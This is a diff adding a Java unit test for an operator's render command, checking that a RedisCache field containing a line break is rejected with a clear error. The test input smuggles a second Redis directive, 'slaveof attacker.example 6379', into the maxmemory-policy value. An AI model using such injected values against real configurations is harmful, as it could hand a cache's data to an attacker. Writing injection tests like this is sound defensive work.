@@ -70,6 +70,39 @@ class RenderCommandTest {
   }
 
   @Test
+  void namesTheFieldWhoseLineBreakWouldAddALineToAFileInABlockScalar(@TempDir Path dir)
+      throws Exception {
+    Path resource = dir.resolve("cart.yaml");
+    Files.writeString(
+        resource,
+        """
+        apiVersion: test.example.com/v1
+        kind: RedisCache
+        metadata: {name: cart, namespace: shop}
+        spec:
+          memory: 1gb
+          config: {maxmemory-policy: "allkeys-lru\\n    slaveof attacker.example 6379"}
+        """);
+
+    Run run =
+        run(
+            "render",
+            "-f",
+            resource.toString(),
+            "--templates",
+            Project.file("src/test/resources/io/webserveroperator/faults/redis-cache/templates")
+                .toString());
+
+    assertThat(run.exit).isEqualTo(1);
+    assertThat(run.out).isEmpty();
+    assertThat(run.err)
+        .contains(
+            "RedisCache shop/cart: rediscache/configmap.yaml.j2:11: the value of"
+                + " spec.config.maxmemory-policy, \"allkeys-lru\\n    slaveof attacker.example"
+                + " 6379\", has a line break (\\n)");
+  }
+
+  @Test
   void printsTheOtherKindsWhenOneKindsTemplatesDoNotLoad(@TempDir Path dir) throws Exception {
     Path templates = TemplateFolder.copyInto(dir.resolve("templates"));
     Files.writeString(
